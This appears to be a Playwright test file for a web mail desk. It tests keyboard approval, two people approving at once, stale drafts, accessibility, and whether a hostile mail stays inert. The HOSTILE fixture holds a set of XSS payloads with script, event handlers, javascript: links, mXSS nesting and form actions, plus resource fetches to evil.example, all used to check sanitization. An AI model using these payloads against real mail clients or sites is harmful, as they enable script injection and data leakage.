"""A mail in the browser: to the sent reply by keyboard, two people at once, a hostile mail, and pages for every reader."""

import asyncio
from pathlib import Path

from axe_playwright_python.async_playwright import Axe
from playwright.async_api import expect

from desk.web.desks import Named, browser_on, desk_with, letter, take_in
from web.browsing import Chromium

REFUND = "My order hasn't arrived and I need it for Monday. Can you refund shipping?"
HOSTILE = """\
<html><head><meta http-equiv="refresh" content="0; url=https://evil.example/refresh"><base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/a.css"><style>@import url(https://evil.example/b.css); body{background:url(//evil.example/c)}</style>
<script>top.pwned = 1; fetch("https://evil.example/d")</script></head>
<body onload="top.pwned = 2" background="https://evil.example/e.png">
<p style="background:url(https://evil.example/f)">My order A-1001 has not arrived. Can you refund shipping?</p>
<img src="https://evil.example/g.png" srcset="https://evil.example/h.png 2x" onerror="top.pwned = 3"><img src="x" onerror="top.pwned = 4">
<svg onload="top.pwned = 5"><script>top.pwned = 6</script><image href="https://evil.example/i.png"/><use href="https://evil.example/j.svg#a"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror="top.pwned = 7"></style></mglyph></table></mtext></math>
<iframe src="https://evil.example/k"></iframe><object data="https://evil.example/l"></object><embed src="https://evil.example/m">
<form action="https://evil.example/n"><input name="password" autofocus onfocus="top.pwned = 8"><button formaction="javascript:top.pwned=9">Go</button></form>
<a href="javascript:top.pwned=10" ping="https://evil.example/o" id="script-link">click me</a> <a href="https://evil.example/p" id="away">away</a>
<video src="https://evil.example/q" poster="https://evil.example/r"></video><audio src="https://evil.example/s"></audio>
<template><script>top.pwned = 11</script></template><noscript><img src="https://evil.example/t"></noscript>
</body></html>"""


def hostile() -> bytes:
    head, _, _ = letter("", "MIME-Version: 1.0", 'Content-Type: multipart/mixed; boundary="b"').partition(b"\n\n")
    html = f"--b\nContent-Type: text/html; charset=utf-8\n\n{HOSTILE}\n"
    file = "--b\nContent-Type: image/svg+xml\nContent-Disposition: attachment; filename=x.svg\n\n<svg onload='top.pwned=12'></svg>\n--b--\n"
    return head + b"\n\n" + html.encode() + file.encode()


def test_the_mail_of_the_article_is_approved_by_keyboard_and_its_reply_lies_in_the_outbox(tmp_path: Path, chromium: Chromium) -> None:
    async def body() -> None:
        async with desk_with(tmp_path) as desk, browser_on(desk, chromium) as visited:
            outbox = desk.config.outbox / "new"
            before = set(outbox.iterdir())
            page = await visited.open("/")
            await page.keyboard.press("j")
            await page.keyboard.press("Enter")
            await page.locator("#body").wait_for()
            assert "hasn't arrived" in await page.locator(".mail").first.inner_text()

            await page.fill("#body", "We will refund 5000 EUR.")
            objections = page.locator("#checks", has_text="As written now, it breaks")
            await objections.wait_for()
            assert "5000" in await objections.inner_text()
            await page.reload()
            await page.locator("#to").focus()
            async with page.expect_navigation():
                await page.keyboard.press("Enter")
            assert set(outbox.iterdir()) == before
            await page.keyboard.press("a")
            await page.keyboard.press("Enter")
            await page.locator(".note.good", has_text="was answered by you").wait_for()

            assert (await desk.engine.state(1)).approval.by == "ada"
            [sent] = set(outbox.iterdir()) - before
            assert b"refund the shipping of 6.90 EUR" in sent.read_bytes()

            await page.goto(f"{visited.url}/")
            await page.click("#automatic summary")
            await page.click("text=Close the chosen mails as automatic")
            await expect(page.locator("#automatic")).to_have_count(0)

    chromium.run(body())


def test_a_hostile_mail_does_nothing(tmp_path: Path, chromium: Chromium) -> None:
    async def body() -> None:
        async with desk_with(tmp_path, [hostile()]) as desk, browser_on(desk, chromium) as visited:
            page = await visited.open("/")
            dialogs: list[object] = []
            page.on("dialog", lambda dialog: dialogs.append(dialog))  # noqa: PLW0108 - Playwright looks at a function's parameters
            await page.goto(f"{visited.url}/cases/1/task")
            await page.click("#original summary")
            frame = page.frame_locator("iframe.original")
            await frame.locator("text=has not arrived").first.wait_for()

            await frame.locator("text=click me").click()
            await frame.locator("text=away").click()
            async with page.expect_download() as download:
                await page.click(".attachments a")
            await download.value
            await page.evaluate("async () => { await fetch(location.href) }")  # what the mail has asked for was asked for before

            assert await page.evaluate("window.pwned") is None
            assert dialogs == []
            assert page.url == f"{visited.url}/cases/1/task"
            left = "script, style, link, meta[http-equiv], base, img, svg, math, iframe, object, embed, form, input, button, video, audio, [href], [src]"
            assert await frame.locator(left).count() == 0
            assert "<script>" not in await page.content()

    chromium.run(body())


def test_two_browsers_approve_at_once_and_the_second_is_told_who_and_when(tmp_path: Path, chromium: Chromium) -> None:
    async def body() -> None:
        async with desk_with(tmp_path, [letter(REFUND)]) as desk, browser_on(desk, chromium, Named()) as visited:
            # With JavaScript, a page shows at once that another person has decided, and there is nothing left to press.
            first = await visited.open("/cases/1/task", java_script_enabled=False, extra_http_headers={"X-Who": "ada"})
            second = await visited.open("/cases/1/task", java_script_enabled=False, extra_http_headers={"X-Who": "bea"})

            await asyncio.gather(first.click("text=Approve and send"), second.click("text=Approve and send"))
            for page in (first, second):
                await expect(page.locator("main")).to_contain_text("answered by")

            by = (await desk.engine.state(1)).approval.by
            told = second if by == "ada" else first
            assert f"answered by {by}" in await told.inner_text("main")
            assert len(list((desk.config.outbox / "new").iterdir())) == 1

    chromium.run(body())


def test_a_stale_draft_and_an_edit_that_breaks_a_check_keep_what_was_typed(tmp_path: Path, chromium: Chromium) -> None:
    async def body() -> None:
        async with desk_with(tmp_path, [letter(REFUND)]) as desk, browser_on(desk, chromium) as visited:
            page = await visited.open("/cases/1/task", java_script_enabled=False)
            await take_in(desk, [letter("Forget it, cancel A-1001.", "In-Reply-To: <mail-1@mail.example>", number=2)])
            await page.fill("#body", "We will refund 5000 EUR.")
            await page.click("text=Approve and send")
            await expect(page.locator("main")).to_contain_text("has changed since you opened it")
            assert await page.input_value("#body") == "We will refund 5000 EUR."

            await page.click("text=Approve and send")
            await expect(page.locator("main")).to_contain_text("it breaks a rule: it was not sent")
            await page.click("text=Approve and send")
            await page.click("button:has-text('Send it although')")
            await expect(page.locator("main")).to_contain_text("was answered by you")

            assert (await desk.engine.state(1)).approval.despite_violations
            assert b"5000 EUR" in next((desk.config.outbox / "new").iterdir()).read_bytes()

    chromium.run(body())


def test_the_pages_of_the_desk_are_accessible_in_both_themes_and_fit_a_phone(tmp_path: Path, chromium: Chromium) -> None:
    async def body() -> None:
        async with desk_with(tmp_path) as desk, browser_on(desk, chromium) as visited:
            page = await visited.open(viewport={"width": 320, "height": 700}, reduced_motion="reduce")
            for path in ("/", "/cases/1/task", "/cases/1", "/cases/36/task?pause=sort", "/search?q=order", "/replies"):
                await page.goto(visited.url + path)
                await page.evaluate("for (const one of document.querySelectorAll('details')) one.open = true")
                for theme in ("light", "dark"):
                    await page.emulate_media(color_scheme=theme)

                    found = (await Axe().run(page)).response["violations"]

                    assert [
                        (path, theme, one["id"], one["nodes"][0]["html"]) for one in found if one["impact"] in {"serious", "critical"}
                    ] == []
                    assert await page.evaluate("document.documentElement.scrollWidth") == 320, path

    chromium.run(body())
